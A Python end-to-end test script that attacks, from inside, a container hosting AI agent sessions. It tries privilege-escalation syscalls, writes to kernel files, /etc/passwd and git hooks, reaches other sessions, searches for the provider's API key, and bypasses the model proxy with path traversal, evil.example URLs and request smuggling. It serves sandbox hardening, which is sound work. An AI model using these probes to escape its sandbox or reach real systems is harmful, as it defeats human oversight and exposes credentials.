"""From inside: out of the container, up to root, into other sessions, at the key, past the model's allow-list."""

# System calls as an attacker makes them, errors and all:
# ruff: noqa: PTH101, PTH102, PTH104, PTH108, PTH113, PTH118, PTH123, PTH208, PTH211

from __future__ import annotations

import base64
import ctypes
import errno
import json
import mmap
import os
import socket
import stat
import sys
from collections.abc import Callable, Iterator

from tests.e2e.hostile_kit import TOKEN, attack, http, request, run_all, sh

GIVEN = json.loads(sys.argv[1])
"""``port``: what the host listens on; ``hosts``: its addresses; ``yek``: the key, backwards, to search for."""
_SKIPPED = ("/proc", "/sys", "/dev")
_MESSAGE = json.dumps({"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]}).encode()


def why(act: Callable[[], object]) -> str:
    """``done``, or the name of the error."""
    try:
        act()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    return "done"


def reach(family: int, address: str, port: int) -> str:
    def connect() -> None:
        with socket.socket(family, socket.SOCK_STREAM) as link:
            link.settimeout(2)
            link.connect((address, port))

    return why(connect)


# -- networks -------------------------------------------------------------------------------------------------


@attack
def interfaces() -> object:
    return [name for _, name in socket.if_nameindex()]


@attack
def networks_v4() -> object:
    targets = [(host, GIVEN["port"]) for host in GIVEN["hosts"]]
    targets += [("127.0.0.1", GIVEN["port"]), ("169.254.169.254", 80), ("8.8.8.8", 53), ("1.1.1.1", 443)]
    targets += [("172.17.0.2", 22), ("10.0.0.1", 80), ("192.168.0.1", 80), ("127.0.0.11", 53)]
    return {f"{host}:{port}": reach(socket.AF_INET, host, port) for host, port in targets}


@attack
def networks_v6() -> object:
    targets = [("2001:4860:4860::8888", 53), ("::1", GIVEN["port"]), ("fe80::1", 80), ("fd00:ec2::254", 80)]
    return {f"{host} {port}": reach(socket.AF_INET6, host, port) for host, port in targets}


@attack
def names() -> object:
    def ask(host: str) -> str:
        try:
            socket.getaddrinfo(host, 80)
        except socket.gaierror as error:
            return f"gaierror {error.errno}"
        return "resolved"

    def datagram() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.sendto(b"\0" * 12, ("8.8.8.8", 53))

    return {host: ask(host) for host in ("example.com", "host.docker.internal")} | {"udp": why(datagram)}


@attack
def raw_sockets() -> object:
    return {
        "packet": why(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768).close()),
        "icmp": why(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()),
    }


@attack
def listeners() -> object:
    """Every TCP port that anything listens on in this network namespace, and every socket with a name."""
    ports, sockets = set(), set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as file:
            rows = [row.split() for row in file][1:]
        ports |= {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}
    with open("/proc/net/unix") as file:
        sockets = {row.split()[7] for row in list(file)[1:] if len(row.split()) > 7}
    return {"tcp": sorted(ports), "unix": sorted(sockets)}


@attack
def socket_files() -> object:
    return [path for path in walk() if stat.S_ISSOCK(os.lstat(path).st_mode)]


def walk(top: str = "/") -> Iterator[str]:
    """Every file that can be seen, but for the kernel's own."""
    for where, below, files in os.walk(top):
        below[:] = [d for d in below if os.path.join(where, d) not in _SKIPPED]
        yield from (os.path.join(where, name) for name in files)


# -- up -------------------------------------------------------------------------------------------------------


@attack
def rights() -> object:
    with open("/proc/self/status") as file:
        rows = dict(row.rstrip().split(":\t", 1) for row in file if ":\t" in row)
    wanted = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    return {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()} | {k: rows[k] for k in wanted}


@attack
def setuid_binaries() -> object:
    """How many setuid programs the image has, and what two of them can do."""
    found = [p for p in walk() if os.lstat(p).st_mode & stat.S_ISUID and os.path.isfile(p)]
    code, said = sh("mount", "-t", "tmpfs", "x", "/mnt")
    return {"found": len(found), "mount": [code, said[-80:]], "chsh": sh("chsh", "-s", "/bin/sh", "root", seconds=5)[0]}


@attack
def system_calls() -> object:
    libc = ctypes.CDLL(None, use_errno=True)

    def call(name: str, *args: object) -> str:
        ctypes.set_errno(0)
        return "done" if getattr(libc, name)(*args) == 0 else errno.errorcode.get(ctypes.get_errno(), "?")

    found = {
        "remount": call("mount", b"none", b"/upstream", None, 0x20 | 0x1000, None),
        "tmpfs": call("mount", b"tmpfs", b"/run/team", b"tmpfs", 0, None),
        "umount": call("umount2", b"/run/team", 2),
        "user namespace": call("unshare", 0x10000000),
        "mount namespace": call("unshare", 0x00020000),
        "setuid": call("setuid", 0),
        "chroot": call("chroot", b"/tmp"),
        "sethostname": call("sethostname", b"x", 1),
        "init's network": call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0),
    }
    found["device"] = why(lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
    return found


@attack
def kernel_files() -> object:
    def write(path: str) -> str:
        def act() -> None:
            os.close(os.open(path, os.O_WRONLY))

        return why(act)

    paths = ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda")
    return {path: write(path) for path in (*paths, "/sys/kernel/uevent_helper", "/etc/passwd")} | {
        "cgroup": why(lambda: os.mkdir("/sys/fs/cgroup/x")),
        "devices": sorted(d for d in os.listdir("/dev") if d.startswith(("sd", "vd", "nvme", "loop", "dm-", "kvm"))),
    }


@attack
def read_only_mounts() -> object:
    """Write, replace, delete and re-own in what is mounted from the host."""
    tries: dict[str, Callable[[], object]] = {}
    for top in ("/opt/team", "/upstream", "/upstream/hooks", "/upstream/objects", "/run/team"):
        tries[f"new {top}"] = lambda top=top: os.close(os.open(f"{top}/hostile", os.O_WRONLY | os.O_CREAT))  # type: ignore[misc]
    for path in ("/upstream/config", "/upstream/hooks/pre-receive", "/upstream/HEAD", "/opt/team/inside/entry"):
        tries[f"write {path}"] = lambda path=path: os.close(os.open(path, os.O_WRONLY | os.O_APPEND))  # type: ignore[misc]
    tries["hook"] = lambda: os.symlink("/bin/sh", "/upstream/hooks/post-receive")
    tries["unlink socket"] = lambda: os.unlink("/run/team/door.sock")
    tries["rename socket"] = lambda: os.rename("/run/team/door.sock", "/run/team/old.sock")
    tries["chmod socket"] = lambda: os.chmod("/run/team/door.sock", 0)
    tries["chmod directory"] = lambda: os.chmod("/run/team", 0o777)
    tries["link socket"] = lambda: os.symlink("/etc/passwd", "/run/team/door.sock.new")
    tries["write prompt"] = lambda: os.close(os.open("/run/team/prompt.md", os.O_WRONLY))
    return {name: why(act) for name, act in tries.items()}


# -- others, and the key --------------------------------------------------------------------------------------


@attack
def mounts() -> object:
    """Where anything from outside of the image is mounted."""
    with open("/proc/self/mountinfo") as file:
        points = {row.split()[4] for row in file}
    return sorted(p for p in points if not p.startswith(("/proc", "/sys", "/dev")))


@attack
def others() -> object:
    """Other sessions' processes, doors, work trees, and the host's state."""
    mine, foreign = os.environ["TEAM_SESSION"].encode(), []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                said = file.read()
        except OSError:
            continue
        if b"TEAM_SESSION=" in said and b"TEAM_SESSION=" + mine not in said:
            foreign.append(pid)
    words = ("ledger.db", "rescue.git", "supervisor.lock", "landing.lock", "incoming", "project.json", "agent-02.1")
    seen = [p for p in walk() if p.rpartition("/")[2] in words]
    outside = [why(lambda p=p: os.listdir(p)) for p in GIVEN["paths"]]  # type: ignore[misc]
    return {"processes": foreign, "files": seen, "host paths": outside}


@attack
def the_key() -> object:
    """Everything that can be read, searched for the provider's key; what is there for sure shows that it was read."""
    key = GIVEN["yek"][::-1].encode()
    wanted = {"key": key, "key64": base64.b64encode(key)[:-4], "token": TOKEN.encode(), "code": b"def " + b"one():"}
    found: dict[str, set[str]] = {name: set() for name in wanted}
    looked = 0
    paths = [p for p in walk() if not p.startswith("/usr/lib")]
    paths += [f"/proc/{pid}/{what}" for pid in os.listdir("/proc") if pid.isdigit() for what in ("environ", "cmdline")]
    for path in paths:
        data = content(path)
        looked += data is not None
        for name, text in wanted.items():
            if data and text in data:
                found[name].add(path.split("/")[1])
    return {"looked": looked} | {name: sorted(places) for name, places in found.items()}


def content(path: str) -> bytes | None:
    try:
        with open(path, "rb") as file:
            if path.startswith("/proc"):
                return file.read()
            if not stat.S_ISREG(os.fstat(file.fileno()).st_mode):
                return None
            with mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
                return mapped[:]
    except (OSError, ValueError):
        return None


# -- the model ------------------------------------------------------------------------------------------------


@attack
def model_allowed() -> object:
    return {
        "models": http(request("GET", "/v1/models"))[0],
        "messages": http(request("POST", "/v1/messages?beta=true&x=1", _MESSAGE))[0],
    }


@attack
def model_paths() -> object:
    tries = [
        *(("GET", path) for path in ("/v1/files", "/v1/messages", "/v1/models/x", "/v1/models/../files", "/usage")),
        *(("GET", path) for path in ("/v1/models/", "/v1", "/v1/", "/", "/%2e%2e/usage", "/v1/%2e%2e/usage")),
        *(("POST", path) for path in ("/v1/messages/batches", "/v1/messages/../files", "/v1/messages/..%2ffiles")),
        *(
            ("POST", path)
            for path in ("/v1/messages%2fbatches", "/v1/messages%2e%2e", "/v1/messages/", "//v1/messages")
        ),
        *(
            ("POST", path)
            for path in ("/v1//messages", "/V1/MESSAGES", "/v1/messages;x", "/v1/messages%00", "/v1/files")
        ),
        *(
            ("POST", path)
            for path in ("/v1/messages%3f/../files", "/v1/complete", "/v1/responses", "/v1/messages%0d%0a")
        ),
        *(("POST", path) for path in ("/v1/messages#/../files", "/v1/messages\\..\\files", "http://[::1")),
        *(("POST", f"http://evil.example{path}") for path in ("/v1/files", "/v1/messages/batches", "/usage")),
        ("GET", f"http://{GIVEN['hosts'][0]}:{GIVEN['port']}/secret"),
        ("CONNECT", "evil.example:443"),
        ("CONNECT", f"{GIVEN['hosts'][0]}:{GIVEN['port']}"),
        ("OPTIONS", "*"),
        ("OPTIONS", "/v1/messages"),
        ("PUT", "/v1/messages"),
        ("DELETE", "/v1/messages"),
        ("TRACE", "/v1/messages"),
    ]
    return {f"{method} {target}": http(request(method, target))[0] for method, target in tries}


@attack
def model_headers() -> object:
    """Allowed calls with headers that might lead elsewhere; a forged length that hides a second request."""
    host = f"{GIVEN['hosts'][0]}:{GIVEN['port']}"
    away = {"Host": host, "X-Forwarded-Host": host, "X-Original-URL": "/v1/files", "X-Rewrite-URL": "/v1/files"}
    hidden = request("GET", "/v1/files")
    smuggled = b"0\r\n\r\n" + hidden
    both = request("POST", "/v1/messages", smuggled, {"Transfer-Encoding": "chunked"})
    override = {"X-HTTP-Method-Override": "DELETE", "Forwarded": f"host={host}"}
    override |= {"Upgrade": "websocket", "Connection": "Upgrade"}
    kept = request("GET", "/v1/models", headers={"Connection": "keep-alive"})
    return {
        "away": http(request("GET", "/v1/models", headers=away))[0],
        "override": http(request("GET", "/v1/models", headers=override), 1)[0],
        "smuggled": http(both)[0],
        "split": http(request("GET", "/v1/models", headers={"X-A": "b\nX-C: d"}))[0],
        "garbage": http(b"GET http://[::1\x1b[31m\xe2\x80\xae HTTP/1.1\r\nHost: x\r\n\r\n")[0],
        "pipelined": http(kept + hidden)[1].count(b"HTTP/1.1 403"),
    }


@attack
def model_without_token() -> object:
    other = "0" * len(TOKEN)
    return {
        "none": http(request("GET", "/v1/models", headers={"x-api-key": "-"}))[0],
        "wrong": http(request("GET", "/v1/models", headers={"x-api-key": other}))[0],
        "claimed": http(request("GET", "/v1/models", headers={"x-api-key": other, "X-Team-Session": "agent-02.1"}))[0],
    }


@attack
def other_doors() -> object:
    tries = [
        "/git/rescue/info/refs?service=git-receive-pack",
        "/git/upstream/../rescue/info/refs",
        "/git/upstream/HEAD",
        "/git/upstream/info/refs?service=git-upload-pack",
        "/git/upstream/objects/info/packs",
        "/team/nothing",
        "/../../etc/passwd",
        "/team/ready/../../etc/passwd",
    ]
    return {path: http(request("GET", path))[0] for path in tries}


if __name__ == "__main__":
    run_all()
